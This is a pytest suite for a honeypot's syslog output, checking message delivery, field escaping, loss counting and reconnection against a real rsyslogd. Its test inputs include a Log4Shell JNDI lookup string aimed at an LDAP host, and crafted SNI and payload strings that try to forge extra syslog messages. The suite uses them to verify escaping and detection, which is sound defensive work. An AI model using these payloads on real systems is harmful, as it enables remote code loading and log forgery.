"""The syslog sink (--syslog) against a real rsyslogd that each test starts
with its own configuration: imuxsock on a socket path of its own, imudp and
imtcp on loopback ports, and omfile writing what rsyslog parsed out of each
RFC 5424 message (PRI, APP-NAME, MSGID and the structured data). Every
session must arrive once with its fields; hostile peer strings arrive
escaped and cannot make a second message; a stopped server is counted as
lost (UDP) or waited for and reconnected to (TCP), and never stops capture."""
import os
import re
import shutil
import signal
import socket
import struct
import subprocess
import threading
import time

import pytest

from conftest import FLYPAPER, free_port, query, send_and_close, wait_for
from test_chroot import chrooted, env_without_landlock
from test_privileges import service_user  # noqa: F401 (the fixture)
from test_metrics import get, metrics_port, samples
from test_sandbox import SELFTEST, run_inetd

RSYSLOGD = shutil.which("rsyslogd") or "/usr/sbin/rsyslogd"
SEP = "\x1f"   # between the fields the template writes (rsyslog escapes it in a value)



class Rsyslog:
    """One rsyslogd in the foreground, its inputs on loopback and sock,
    writing the messages of APP-NAME fp-test to out."""

    def __init__(self, folder, udp=None, tcp=None, sock=None):
        self.folder = folder
        self.udp, self.tcp, self.sock = udp, tcp, sock
        self.out = folder / "out.log"
        self.conf = folder / "rsyslog.conf"
        self.proc = None
        work = folder / "work"
        work.mkdir(exist_ok=True)
        lines = [f'global(workDirectory="{work}")']
        if sock:
            # the RFC 5424 parser, not imuxsock's own for local messages
            lines += ['module(load="imuxsock" SysSock.Use="off")',
                      f'input(type="imuxsock" Socket="{sock}" UseSpecialParser="off" '
                      'ParseHostname="on" CreatePath="on")']
        if udp:
            lines += ['module(load="imudp")',
                      f'input(type="imudp" address="127.0.0.1" port="{udp}")']
        if tcp:
            lines += ['module(load="imtcp")',
                      f'input(type="imtcp" address="127.0.0.1" port="{tcp}")']
        lines += [
            'template(name="fields" type="string" string="%inputname%\x1f%pri%\x1f'
            '%hostname%\x1f%app-name%\x1f%procid%\x1f%msgid%\x1f%structured-data%\x1f%msg%\\n")',
            'if $app-name == "fp-test" then {',
            f'  action(type="omfile" file="{self.out}" template="fields")',
            '}',
        ]
        self.conf.write_text("\n".join(lines) + "\n")
        check = subprocess.run([RSYSLOGD, "-N1", "-f", str(self.conf)],
                               capture_output=True, text=True)
        assert check.returncode == 0, check.stdout + check.stderr

    def start(self):
        self.log = open(self.folder / "rsyslogd.log", "ab")
        self.proc = subprocess.Popen(
            [RSYSLOGD, "-n", "-f", str(self.conf), "-i", str(self.folder / "rsyslogd.pid")],
            stdout=self.log, stderr=subprocess.STDOUT)
        if self.sock:
            wait_for(lambda: os.path.exists(self.sock), what="rsyslogd's socket")
        if self.tcp:
            wait_for(lambda: self._tcp_up(), what="rsyslogd's TCP port")
        if self.udp:
            wait_for(lambda: f":{self.udp:04X} " in open("/proc/net/udp").read(),
                     what="rsyslogd's UDP port")
        return self

    def _tcp_up(self):
        try:
            socket.create_connection(("127.0.0.1", self.tcp), timeout=1).close()
            return True
        except OSError:
            return False

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            self.proc.wait(timeout=30)
            self.log.close()
        self.proc = None

    def messages(self, msgid="session"):
        """What rsyslog parsed of the messages of msgid (None: all): one
        dict a message, the SD params unescaped."""
        if not self.out.exists():
            return []
        got = []
        for line in self.out.read_text(errors="replace").splitlines():
            f = line.split(SEP)
            assert len(f) == 8, f"a message that is not one line: {line!r}"
            got.append({"input": f[0], "pri": int(f[1]), "host": f[2], "app": f[3],
                        "procid": f[4], "msgid": f[5], "sd": f[6], "params": sd_params(f[6]),
                        "msg": f[7]})
        return [m for m in got if msgid is None or m["msgid"] == msgid]


def sd_params(sd):
    """The params of the one SD-ELEMENT flypaper@32473, unescaped as RFC
    5424 6.3.3 says; fails on anything else."""
    m = re.fullmatch(r'\[flypaper@32473((?: [a-z_0-9]+="(?:[^"\\\]]|\\["\\\]])*")*)\]', sd)
    assert m, f"not one well-formed SD-ELEMENT: {sd!r}"
    return {k: re.sub(r'\\(["\\\]])', r"\1", v)
            for k, v in re.findall(r' ([a-z_0-9]+)="((?:[^"\\\]]|\\["\\\]])*)"', m.group(1))}


@pytest.fixture
def rsyslog(tmp_path):
    started = []

    def start(**kwargs):
        folder = tmp_path / f"rsyslog{len(started)}"
        folder.mkdir()
        r = Rsyslog(folder, **kwargs).start()
        started.append(r)
        return r

    yield start
    for r in started:
        r.stop()


def client_hello(sni):
    """A TLS 1.2 ClientHello whose server_name is sni (any bytes)."""
    name = struct.pack("!BH", 0, len(sni)) + sni
    ext = struct.pack("!HH", 0, len(name) + 2) + struct.pack("!H", len(name)) + name
    body = (b"\x03\x03" + b"\x11" * 32 + b"\x00" + b"\x00\x02\x00\x2f" + b"\x01\x00"
            + struct.pack("!H", len(ext)) + ext)
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


HOSTILE_SNI = b'evil"]\\\n<13>1 forged - - - - [x@1 a="b"] injected.example'
HOSTILE_SNI_SENT = r'evil\"\]\\x5c\\x0a<13>1 forged - - - - [x@1 a=\"b\"\] injected.example'
HOSTILE_SNI_VALUE = 'evil"]\\x5c\\x0a<13>1 forged - - - - [x@1 a="b"] injected.example'

TARGETS = ["unix", "udp", "tcp"]


def start_pair(daemons, rsyslog, tmp_path, kind, extra=()):
    if kind == "unix":
        r = rsyslog(sock=str(tmp_path / "log.sock"))
        target = f"unix:{r.sock}"
    elif kind == "udp":
        r = rsyslog(udp=free_port(kind=socket.SOCK_DGRAM))
        target = f"udp://127.0.0.1:{r.udp}"
    else:
        r = rsyslog(tcp=free_port())
        target = f"tcp://127.0.0.1:{r.tcp}"
    d = daemons(args=["--syslog", target, "--syslog-app", "fp-test",
                      "--syslog-facility", "local3", "--sensor", "sensor one",
                      "--idle-timeout", "300ms", *extra])
    return r, d


def runs(db):
    return query(db, "SELECT syslog_sent, syslog_lost, syslog_escaped FROM runs")


@pytest.mark.parametrize("kind", TARGETS)
def test_every_session_arrives_once_with_its_fields(daemons, rsyslog, tmp_path, kind):
    r, d = start_pair(daemons, rsyslog, tmp_path, kind)
    for i in range(4):
        send_and_close(d.port, b"GET /%d HTTP/1.0\r\n\r\n" % i)
    send_and_close(d.port, client_hello(HOSTILE_SNI))
    rows = d.wait_sessions(5)
    msgs = wait_for(lambda: (lambda m: m if len(m) >= 5 else None)(r.messages()),
                    what="five messages at rsyslog")
    assert d.stop() == 0
    time.sleep(0.3)
    msgs = r.messages()
    assert len(msgs) == 5, msgs          # nothing injected, nothing doubled
    # the rules found nothing in these: no verdict messages either
    assert len(r.messages(None)) == 5, r.messages(None)
    by_id = {m["params"]["session"]: m for m in msgs}
    assert sorted(by_id) == sorted(row["session"] for row in rows)
    for row in rows:
        m = by_id[row["session"]]
        p = m["params"]
        assert m["pri"] == 19 * 8 + 6            # local3.info
        assert (m["host"], m["app"], m["msgid"]) == ("sensor_one", "fp-test", "session")
        assert m["procid"] == str(d.proc.pid)
        assert p["src"] == row["src_ip"] and int(p["sport"]) == row["src_port"]
        assert p["dst"] == row["dst_ip"] and int(p["dport"]) == row["dst_port"]
        assert p["close"] == row["close_reason"]
        assert int(p["bytes_in"]) == row["bytes_in"]
        assert int(p["bytes_out"]) == row["bytes_out"]
        assert p["sha256"] == row["payload_sha256"]
        assert p["strategy"] == row["strategy"]
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", p["start"])
        assert m["msg"].startswith(f"session {row['session']} from ")
    tls = [m for m in msgs if "sni" in m["params"]]
    assert len(tls) == 1, msgs
    assert HOSTILE_SNI_SENT in tls[0]["sd"], tls[0]["sd"]
    assert tls[0]["params"]["sni"] == HOSTILE_SNI_VALUE
    assert tls[0]["params"]["tls"] == "hello"
    assert re.fullmatch(r"[0-9a-f]{32}", tls[0]["params"]["ja3"])
    assert runs(d.db) == [(5, 0, 0)]


def test_hostile_ident_and_payload_strings_escaped(daemons, rsyslog, tmp_path):
    """Newlines, NULs, quotes and non-UTF-8 in a peer's bytes never reach
    the message raw (the payload itself is never sent: its digest is)."""
    r, d = start_pair(daemons, rsyslog, tmp_path, "udp")
    send_and_close(d.port, b"\x00\xff\"]\\\n<13>1 - - - - - forged\n")
    d.wait_sessions(1)
    msgs = wait_for(lambda: r.messages() or None, what="the message")
    d.stop()
    assert len(msgs) == 1 and "forged" not in msgs[0]["sd"] + msgs[0]["msg"], msgs


def test_udp_server_stopped_counts_lost_and_capture_goes_on(daemons, rsyslog, tmp_path):
    r, d = start_pair(daemons, rsyslog, tmp_path, "udp")
    send_and_close(d.port, b"GET /before HTTP/1.0\r\n\r\n")
    d.wait_sessions(1)
    wait_for(lambda: len(r.messages()) == 1, what="the first message")
    r.stop()
    for i in range(4):
        send_and_close(d.port, b"GET /down%d HTTP/1.0\r\n\r\n" % i)
        d.wait_sessions(2 + i)      # recorded: capture never waits for syslog
        time.sleep(0.2)             # the ICMP port unreachable comes back
    assert d.stop() == 0
    sent, lost, _ = runs(d.db)[0]
    assert sent + lost == 5
    # the first datagram into the void goes out unanswered; its ICMP error
    # makes the next send fail
    assert lost >= 3, d.text()
    assert d.text().count("messages wait in the queue (--syslog-queue) until it answers "
                          "again") == 1, d.text()


def test_tcp_server_restarted_is_reconnected_nothing_lost(daemons, rsyslog, tmp_path):
    r, d = start_pair(daemons, rsyslog, tmp_path, "tcp")
    send_and_close(d.port, b"GET /before HTTP/1.0\r\n\r\n")
    d.wait_sessions(1)
    wait_for(lambda: len(r.messages()) == 1, what="the first message")
    r.stop()
    for i in range(3):
        send_and_close(d.port, b"GET /down%d HTTP/1.0\r\n\r\n" % i)
        d.wait_sessions(2 + i)      # queued, and capture goes on
    assert "the server closed the connection" in d.text(), d.text()
    r.start()
    # messages go out when the writer has a batch: sessions keep coming
    # until the backoff's next try reconnects (30 at most, 0.5 s apart)
    n = 4
    for _ in range(30):
        send_and_close(d.port, b"GET /after HTTP/1.0\r\n\r\n")
        n += 1
        d.wait_sessions(n)
        if len(r.messages()) >= n:
            break
        time.sleep(0.5)
    assert d.stop() == 0
    time.sleep(0.3)
    ids = [m["params"]["session"] for m in r.messages()]
    rows = [row["session"] for row in d.sessions()]
    assert sorted(ids) == sorted(rows), (len(ids), len(rows))
    sent, lost, _ = runs(d.db)[0]
    assert (sent, lost) == (len(rows), 0)
    assert "answers again (0 message(s) lost meanwhile)" in d.text(), d.text()


def test_bad_syslog_values_exit_2(tmp_path):
    for args, what in [
        (["--syslog", "syslog.example:514"], "is not local, unix:PATH"),
        (["--syslog", "udp://127.0.0.1"], "needs HOST:PORT"),
        (["--syslog", "tcp://127.0.0.1:70000"], "needs HOST:PORT"),
        (["--syslog", "unix:relative.sock"], "absolute path"),
        (["--syslog", "udp://no-such-host.invalid:514"], "cannot resolve"),
        (["--syslog", f"unix:{tmp_path}/nobody-listens"], "cannot connect"),
        (["--syslog-facility", "local9"], "is not kern"),
        (["--syslog-app", "two words"], "has a space"),
        (["--syslog-app", "x" * 49], "1 to 48"),
        (["--syslog-queue", "1k"], "is outside 16k..1G"),
    ]:
        p = subprocess.run([FLYPAPER, "serve", "--db", str(tmp_path / "f.db"),
                            "--listen", "127.0.0.1:0", *args],
                           capture_output=True, text=True, timeout=30)
        assert p.returncode == 2, (args, p.stdout, p.stderr)
        assert what in p.stderr, (args, p.stderr)


@pytest.mark.parametrize("kind", ["unix", "tcp", "unix-chroot"])
def test_confined_with_user(service_user, daemons, rsyslog, kind):  # noqa: F811
    """Under --user, seccomp and Landlock: the Unix socket is connected
    before confinement; TCP connects after it (rsyslog starts late), which
    the allow-list permits for TCP sockets only. On a kernel without
    Landlock (pretended) serve chroots into the database's folder: the
    socket outside it was connected before."""
    pw, state = service_user
    top = state.parent
    env = None
    if kind == "unix-chroot":
        env = env_without_landlock()
    if kind.startswith("unix"):
        r = rsyslog(sock=str(top / "log.sock"))
        target = f"unix:{r.sock}"
    else:
        port = free_port()
        target = f"tcp://127.0.0.1:{port}"
    d = daemons(db=str(state / "fp.db"),
                args=["--user", pw.pw_name, "--syslog", target, "--syslog-app", "fp-test",
                      "--idle-timeout", "300ms"], env=env)
    assert "sandbox: seccomp allow-list" in d.text(), d.text()
    if env:
        chrooted(d, state)      # says why not in a sanitizer build
    if kind == "tcp":
        send_and_close(d.port, b"GET /early HTTP/1.0\r\n\r\n")
        d.wait_sessions(1)
        r = rsyslog(tcp=port)
    n = len(d.sessions())
    for _ in range(30):
        send_and_close(d.port, b"GET /confined HTTP/1.0\r\n\r\n")
        n += 1
        d.wait_sessions(n)
        if len(r.messages()) >= n:
            break
        time.sleep(0.5)
    assert d.stop() == 0
    assert "forbidden system call" not in d.text()
    assert len(r.messages()) == n, (r.messages(), d.text())


def test_inetd_child_sends_its_session_confined(rsyslog, tmp_path):
    """An inetd child connects the socket in outputs_open, before its own
    confinement, and sends its one session."""
    r = rsyslog(sock=str(tmp_path / "log.sock"))
    env = {k: v for k, v in os.environ.items() if k != SELFTEST}
    rc, text, db = run_inetd(tmp_path, env, args=["--syslog", f"unix:{r.sock}",
                                                  "--syslog-app", "fp-test"])
    assert rc == 0, text
    assert "sandbox: seccomp allow-list" in text, text
    msgs = wait_for(lambda: r.messages() or None, what="the inetd child's message")
    assert [m["params"]["session"] for m in msgs] == [query(db, "SELECT session FROM sessions")[0][0]]
    assert msgs[0]["params"]["sha256"] == query(db, "SELECT payload_sha256 FROM sessions")[0][0]


def test_a_verdict_that_names_a_family_comes_as_its_own_message(daemons, rsyslog, tmp_path):
    """Sessions are classified after they are written: the verdict follows
    as MSGID classified (only when it names a family or tags)."""
    r, d = start_pair(daemons, rsyslog, tmp_path, "tcp")
    send_and_close(d.port, b"GET / HTTP/1.1\r\nX-Api-Version: ${JNDI:ldap://192.0.2.1/a}\r\n\r\n")
    row = d.wait_sessions(1)[0]
    wait_for(lambda: query(d.db, "SELECT family FROM sessions")[0][0], what="the verdict")
    send_and_close(d.port, b"GET /kick HTTP/1.0\r\n\r\n")     # a batch after it
    d.wait_sessions(2)
    verdicts = wait_for(lambda: r.messages("classified") or None, what="the verdict's message")
    assert d.stop() == 0
    assert len(verdicts) == 1, verdicts
    p = verdicts[0]["params"]
    assert (p["session"], p["sha256"], p["class_state"]) == (
        row["session"], row["payload_sha256"], "done")
    assert p["family"] == query(d.db, "SELECT family FROM sessions WHERE session = ?",
                                (row["session"],))[0][0] == "log4shell"
    assert len(r.messages()) == 2


def test_tcp_queue_full_counts_lost_and_capture_goes_on(daemons, tmp_path):
    """No server at all: messages wait in --syslog-queue (16k, some thirty
    of them), the rest are lost and counted; every session is recorded."""
    port = free_port()
    d = daemons(args=["--syslog", f"tcp://127.0.0.1:{port}", "--syslog-queue", "16k",
                      "--idle-timeout", "300ms"])
    for i in range(60):
        send_and_close(d.port, b"GET /q%d HTTP/1.0\r\n\r\n" % i)
    d.wait_sessions(60)
    assert d.stop() == 0
    sent, lost, _ = runs(d.db)[0]
    # what the queue held is counted lost at exit too, after its 2 s try
    assert (sent, lost) == (0, 60), (sent, lost)
    assert "message(s) not delivered (runs.syslog_lost)" in d.text(), d.text()
    m = re.search(r"(\d+) message\(s\) \(\d+ byte\(s\)\) not sent at exit \([^)]*\): counted lost",
                  d.text())
    assert m and 0 < int(m.group(1)) < 60, d.text()


@pytest.mark.parametrize("queue", [None, "16k"])
def test_unix_burst_every_message_delivered(daemons, rsyslog, tmp_path, queue):
    """A Unix datagram socket holds net.unix.max_dgram_qlen unread messages
    (10 by default): past them send says EAGAIN, which means the receiver
    is busy, not gone. Sessions back to back all arrive, and the counts
    agree with what rsyslog wrote. With a 16k queue (some thirty messages)
    the ring wraps many times over: every message still arrives whole,
    and any that did not fit are counted."""
    n = 150
    r, d = start_pair(daemons, rsyslog, tmp_path, "unix",
                      extra=["--max-conns-per-source", "10000",
                             *(["--syslog-queue", queue] if queue else [])])
    for i in range(n):
        send_and_close(d.port, b"GET /burst%d HTTP/1.0\r\n\r\n" % i)
    rows = d.wait_sessions(n)
    if not queue:
        wait_for(lambda: len(r.messages()) >= n, timeout=30, what=f"{n} messages at rsyslog")
    assert d.stop() == 0
    time.sleep(0.5)
    sent, lost, _ = runs(d.db)[0]
    msgs = r.messages()              # each one parsed whole, or this fails
    assert sent + lost == n and len(msgs) == sent, (sent, lost, len(msgs), d.text())
    ids = [m["params"]["session"] for m in msgs]
    assert len(set(ids)) == len(ids) and set(ids) <= {row["session"] for row in rows}
    if not queue:
        assert lost == 0, d.text()
        assert "answers again" not in d.text(), d.text()    # never called down
    else:
        assert sent > 40, (sent, lost)   # more than the ring holds: it wrapped


class SlowAccept:
    """A TCP server whose accept queue is full (listen(0) and one
    connection it does not accept yet): a SYN is dropped and the client's
    connect does not finish at once, as to a server some RTT away. After
    delay seconds (None: never) it accepts and reads what comes."""

    def __init__(self, delay):
        self.lst = socket.socket()
        self.lst.bind(("127.0.0.1", 0))
        self.lst.listen(0)
        self.port = self.lst.getsockname()[1]
        self.filler = socket.create_connection(("127.0.0.1", self.port))
        self.got = b""
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._run, args=(delay,), daemon=True)
        self.thread.start()

    def _run(self, delay):
        if delay is None:
            self.done.wait()
            return
        time.sleep(delay)
        self.lst.accept()[0].close()       # the filler: room for one more
        self.lst.settimeout(10)
        try:
            c, _ = self.lst.accept()
        except OSError:
            return
        c.settimeout(5)
        with c:
            while (b := c.recv(65536)):
                self.got += b
        self.done.set()

    def close(self):
        self.done.set()
        self.filler.close()
        self.lst.close()


def test_inetd_child_waits_for_a_slow_connect(tmp_path):
    """An inetd child writes one batch and exits: a TCP connect that takes
    a second (a SYN dropped and sent again) is waited for at exit, up to
    2 s, and its message is delivered."""
    srv = SlowAccept(0.5)
    env = {k: v for k, v in os.environ.items() if k != SELFTEST}
    try:
        rc, text, db = run_inetd(tmp_path, env, args=[
            "--syslog", f"tcp://127.0.0.1:{srv.port}", "--syslog-app", "fp-test"])
        assert srv.done.wait(10), text
    finally:
        srv.close()
    assert rc == 0, text
    session = query(db, "SELECT session FROM sessions")[0][0]
    assert re.match(rb"\d+ <\d+>1 ", srv.got), srv.got
    assert f'session="{session}"'.encode() in srv.got, srv.got
    assert "not sent at exit" not in text and "syslog message(s) lost" not in text, text


def test_inetd_child_counts_what_it_could_not_send(tmp_path):
    """No server at all: after its 2 s the child counts the message lost
    in its error line, as it does jsonl's."""
    env = {k: v for k, v in os.environ.items() if k != SELFTEST}
    rc, text, _ = run_inetd(tmp_path, env, args=[
        "--syslog", f"tcp://127.0.0.1:{free_port()}", "--syslog-app", "fp-test"])
    assert "1 message(s) (" in text and "not sent at exit (" in text and "): counted lost" in text, text
    assert "0 jsonl error(s), 1 syslog message(s) lost" in text, text


def test_queued_message_goes_out_without_a_new_session(daemons, rsyslog, tmp_path):
    """serve: a message queued while the server was down goes out when it
    comes back, on the writer's idle tick, with no session after it."""
    port = free_port()
    d = daemons(args=["--syslog", f"tcp://127.0.0.1:{port}", "--syslog-app", "fp-test",
                      "--idle-timeout", "300ms"])
    send_and_close(d.port, b"GET /queued HTTP/1.0\r\n\r\n")
    row = d.wait_sessions(1)[0]
    wait_for(lambda: "Connection refused" in d.text(), what="the refused connect")
    r = rsyslog(tcp=port)
    msgs = wait_for(lambda: r.messages() or None, timeout=30, what="the queued message")
    assert [m["params"]["session"] for m in msgs] == [row["session"]]
    assert len(d.sessions()) == 1
    assert d.stop() == 0
    assert runs(d.db) == [(1, 0, 0)]


def test_blackholed_connect_gives_up_after_its_deadline(daemons):
    """A server whose SYNs are dropped: the connect gives up after a few
    seconds and backs off, instead of waiting for the kernel's SYN retries
    (two minutes)."""
    srv = SlowAccept(None)
    try:
        d = daemons(args=["--syslog", f"tcp://127.0.0.1:{srv.port}",
                          "--idle-timeout", "300ms"])
        send_and_close(d.port, b"GET /void HTTP/1.0\r\n\r\n")
        d.wait_sessions(1)
        wait_for(lambda: "connect: Connection timed out" in d.text(), timeout=20,
                 what="the connect's deadline")
        assert d.stop() == 0
    finally:
        srv.close()


def test_metrics_show_the_syslog_backlog_and_failures(daemons):
    """The syslog sink's gauges: the messages it holds, its failed
    connects, what it shipped."""
    d = daemons(args=["--metrics", "127.0.0.1:0", "--syslog",
                      f"tcp://127.0.0.1:{free_port()}", "--idle-timeout", "300ms"])
    port = metrics_port(d)
    for i in range(3):
        send_and_close(d.port, b"GET /m%d HTTP/1.0\r\n\r\n" % i)
    d.wait_sessions(3)
    sink = frozenset({("sink", "syslog")})

    def seen():
        s = samples(get(port)[2])
        return s if s[("flypaper_sink_backlog", sink)] >= 3 and \
            s[("flypaper_sink_failures_total", sink)] > 0 else None
    s = wait_for(seen, what="the syslog backlog and failures")
    assert s[("flypaper_sink_shipped_total", sink)] == 0
    assert d.stop() == 0


def test_unix_socket_in_a_folder_others_may_write_is_refused(tmp_path):
    """Someone who may write the socket's folder could put their own
    socket there: refused (exit 2), unless the folder is sticky (/tmp)."""
    for mode, what in [(0o777, "is writable by its group or others"),
                       (0o770, "is writable by its group or others"),
                       (0o1777, "cannot connect")]:
        folder = tmp_path / f"d{mode:o}"
        folder.mkdir()
        folder.chmod(mode)
        p = subprocess.run([FLYPAPER, "serve", "--db", str(tmp_path / "f.db"),
                            "--listen", "127.0.0.1:0", "--syslog", f"unix:{folder}/log.sock"],
                           capture_output=True, text=True, timeout=30)
        assert p.returncode == 2 and what in p.stderr, (mode, p.stderr)


def serve_exits(tmp_path, path):
    return subprocess.run([FLYPAPER, "serve", "--db", str(tmp_path / "f.db"),
                           "--listen", "127.0.0.1:0", "--syslog", f"unix:{path}"],
                          capture_output=True, text=True, timeout=30)


def test_unix_socket_under_an_unsafe_folder_or_link_is_refused(tmp_path):
    """Every folder on the way counts, not only the socket's own: whoever
    may write ww can rename ww/sub and make their own. A link on the way
    that root does not own could be pointed elsewhere; a root-owned link
    is followed and where it leads is checked the same way."""
    safe = tmp_path / "safe"
    safe.mkdir(mode=0o755)
    rx = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    rx.bind(str(safe / "log.sock"))
    ww = tmp_path / "ww"
    (ww / "sub").mkdir(parents=True)
    ww.chmod(0o777)
    (ww / "sub").chmod(0o755)
    theirs = tmp_path / "theirs"
    theirs.symlink_to(safe)
    os.lchown(theirs, 65534, 65534)
    into_ww = tmp_path / "into-ww"
    into_ww.symlink_to(ww / "sub")
    try:
        for path, what in [(ww / "sub" / "log.sock", f"the folder {ww} is writable"),
                           (theirs / "log.sock", f"{theirs} is a symbolic link not owned by root"),
                           (into_ww / "log.sock", f"the folder {ww} is writable")]:
            p = serve_exits(tmp_path, path)
            assert p.returncode == 2 and what in p.stderr, (path, p.stderr)
    finally:
        rx.close()


def test_unix_socket_through_a_root_link_is_used(daemons, tmp_path):
    """/dev/log is root's link to the journal's socket on systemd hosts:
    a link root owns into a safe folder works, and the message arrives."""
    safe = tmp_path / "safe"
    safe.mkdir(mode=0o755)
    rx = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    rx.bind(str(safe / "log.sock"))
    rx.settimeout(30)
    link = tmp_path / "devlog"
    link.symlink_to(safe / "log.sock")
    try:
        d = daemons(args=["--syslog", f"unix:{link}", "--idle-timeout", "300ms"])
        send_and_close(d.port, b"GET /linked HTTP/1.0\r\n\r\n")
        row = d.wait_sessions(1)[0]
        got = rx.recv(4096)
        assert f'session="{row["session"]}"'.encode() in got, got
        assert d.stop() == 0
    finally:
        rx.close()


def test_inetd_child_with_the_server_refusing_exits_at_once(tmp_path):
    """At exit a refused connect (or datagram) is final: the child does
    not sit out its 2 s bound retrying a server that is not there (under
    inetd's instance cap that would cut the sensor's capacity), and counts
    the message lost. The log says why it stopped waiting (no timed
    assertion: the old way waited out the whole bound, and said so)."""
    lst = socket.socket()
    lst.bind(("127.0.0.1", 0))
    lst.listen(1)
    cli = socket.create_connection(lst.getsockname(), timeout=10)
    srv, _ = lst.accept()
    lst.close()
    log = tmp_path / "inetd.log"
    env = {k: v for k, v in os.environ.items() if k != SELFTEST}
    with open(log, "wb") as err:
        p = subprocess.Popen([FLYPAPER, "inetd", "--db", str(tmp_path / "i.db"),
                              "--idle-timeout", "1s", "--syslog",
                              f"tcp://127.0.0.1:{free_port()}"],
                             stdin=srv, stdout=subprocess.DEVNULL, stderr=err, env=env)
    srv.close()
    cli.sendall(b"GET /refused HTTP/1.0\r\n\r\n")
    cli.shutdown(socket.SHUT_WR)
    cli.settimeout(10)
    while cli.recv(4096):
        pass
    rc = p.wait(timeout=30)
    cli.close()
    text = log.read_text(errors="replace")
    assert rc == 0 and "1 syslog message(s) lost" in text, text
    assert "not sent at exit (refused at exit: nobody listens)" in text, text


BLACKHOLE = r'''
import socket, subprocess, sys, threading, time
fly, db, log = sys.argv[1:4]
subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
got = bytearray()
lst = socket.socket()
lst.bind(("127.0.0.1", 5514))
lst.listen(4)
port = socket.socket()
port.bind(("127.0.0.1", 0))
listen = "127.0.0.1:%d" % port.getsockname()[1]
port.close()


def serve():
    while True:
        c, _ = lst.accept()
        while True:
            b = c.recv(65536)
            if not b:
                break
            got.extend(b)


def session(i):
    s = socket.create_connection(listen.split(":"), timeout=10)
    s.sendall(b"GET /s%d HTTP/1.0\r\n\r\n" % i)
    s.shutdown(socket.SHUT_WR)
    while s.recv(4096):
        pass
    s.close()


def wait(cond):
    for _ in range(200):
        if cond():
            return True
        time.sleep(0.05)
    return False


threading.Thread(target=serve, daemon=True).start()
with open(log, "w") as err:
    p = subprocess.Popen([fly, "serve", "--db", db, "--listen", listen, "--syslog",
                          "tcp://127.0.0.1:5514", "--idle-timeout", "300ms"], stderr=err)
try:
    wait(lambda: "listening" in open(log).read() or "serving" in open(log).read())
    for _ in range(100):
        try:
            session(0)
            break
        except OSError:
            time.sleep(0.1)
    wait(lambda: got.count(b"<") >= 1)
    subprocess.run(["nft", "-f", "-"], check=True, input=(
        b"table inet bh {\n chain in {\n type filter hook input priority 0;\n"
        b" tcp sport 5514 drop\n tcp dport 5514 drop\n }\n}\n"))
    for i in range(1, 11):
        session(i)
    time.sleep(1)
    p.terminate()
    p.wait(30)
finally:
    if p.poll() is None:
        p.kill()
        p.wait()
print(got.count(b"<"))
'''


def test_tcp_blackholed_server_counts_unacknowledged_lost(tmp_path):
    """A server that vanishes without a reset (a blackhole, a power loss):
    what the kernel took but the server never acknowledged is not sent.
    The queue keeps each frame until its bytes are acknowledged (SIOCOUTQ),
    so at exit the ten sessions after the blackhole count lost, the one
    before it sent: sent + lost == sessions, and they match the server."""
    if not shutil.which("unshare") or not shutil.which("nft"):
        pytest.fail("unshare and nft are needed (scripts/deps: util-linux, nftables)")
    script = tmp_path / "blackhole.py"
    script.write_text(BLACKHOLE)
    db, log = tmp_path / "b.db", tmp_path / "b.log"
    p = subprocess.run(["unshare", "-n", "/usr/bin/python3", str(script), FLYPAPER,
                        str(db), str(log)], capture_output=True, text=True, timeout=120)
    text = log.read_text(errors="replace")
    assert p.returncode == 0, (p.stderr, text)
    assert p.stdout.split() == ["1"], (p.stdout, text)
    assert runs(str(db)) == [(1, 10, 0)], text
    assert "10 message(s)" in text and "not sent at exit (" in text and "): counted lost" in text, text
